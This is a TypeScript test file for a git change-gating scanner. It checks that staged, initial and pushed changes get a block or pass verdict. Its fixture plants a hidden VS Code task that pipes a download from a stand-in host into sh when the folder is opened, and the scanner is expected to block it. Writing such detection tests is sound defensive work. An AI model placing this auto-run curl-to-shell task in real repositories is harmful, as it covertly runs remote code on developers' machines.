import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { type CheckPool, createCheckPool } from '../../check/pool.ts'
import { readSettings } from '../../core/settings.ts'
import { baseOf, changesPushed, headOf } from './changes.ts'
import { judgeChange } from './gate.ts'

const folder = mkdtempSync(join(tmpdir(), 'postern-gate-'))
let repository = ''
let number = 0
let pool: CheckPool

const git = (...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=A', '-c', 'user.email=a@example.org', ...args], { cwd: repository })
    .toString()
    .trim()

const commit = (files: Record<string, string>): string => {
  write(files)
  git('commit', '-qm', 'change')
  return git('rev-parse', 'HEAD')
}

const write = (files: Record<string, string>) => {
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(join(repository, file, '..'), { recursive: true })
    writeFileSync(join(repository, file), text)
  }
  git('add', '.')
}

const LURE = {
  '.vscode/tasks.json': JSON.stringify({
    tasks: [
      {
        label: 'env',
        type: 'shell',
        command: 'curl -s https://cdn.lure.invalid/a | sh >/dev/null 2>&1',
        runOptions: { runOn: 'folderOpen' },
        presentation: { reveal: 'never' },
      },
    ],
  }),
}

beforeAll(() => {
  pool = createCheckPool({ settings: readSettings(undefined), dataDir: undefined, jobs: 1 })
})
beforeEach(() => {
  repository = join(folder, String(++number))
  mkdirSync(repository)
  git('init', '-q', '-b', 'main')
})
afterAll(async () => {
  await pool.close()
  rmSync(folder, { recursive: true })
})

test('what is staged is judged, not what lies in the work tree', async () => {
  commit({ 'a.js': '1\n' })
  write(LURE)
  writeFileSync(join(repository, '.vscode/tasks.json'), '{}')
  const line = await judgeChange(pool, {
    repository,
    from: await headOf(repository),
    to: undefined,
    name: 'x',
  })
  expect(line).toMatchObject({ path: 'x', verdict: 'block' })
})

test('the first commit of a repository is all new', async () => {
  write(LURE)
  expect(await headOf(repository)).toBeUndefined()
  const line = await judgeChange(pool, { repository, from: undefined, to: undefined, name: 'x' })
  expect(line.verdict).toBe('block')
})

test('what was there before does not stop a change that leaves it alone', async () => {
  const from = commit(LURE)
  const to = commit({ 'a.js': '1\n' })
  const line = await judgeChange(pool, { repository, from, to, name: 'x' })
  expect(line.verdict).toBe('pass')
})

test('a push is judged by what it brings; a deleted branch brings nothing', async () => {
  const old = commit({ 'a.js': '1\n' })
  const to = commit(LURE)
  git('branch', '-q', 'seen', old)
  git('checkout', '-q', '--detach')
  git('branch', '-qD', 'main')
  const none = '0'.repeat(40)
  expect(
    await changesPushed(repository, [
      `${old} ${to} refs/heads/main`,
      `${none} ${to} refs/heads/new`,
      `${old} ${none} refs/heads/gone`,
      '',
    ]),
  ).toMatchObject([
    { from: old, to, name: 'refs/heads/main' },
    { from: to, to, name: 'refs/heads/new' },
  ])
})

test('a range begins where the two parted', async () => {
  const base = commit({ 'a.js': '1\n' })
  git('checkout', '-qb', 'topic')
  const to = commit({ 'b.js': '1\n' })
  git('checkout', '-q', 'main')
  commit({ 'c.js': '1\n' })
  expect(await baseOf(repository, 'main', to)).toBe(base)
  await expect(baseOf(repository, 'main', 'no-such')).rejects.toMatchObject({ code: 'E_GIT' })
})
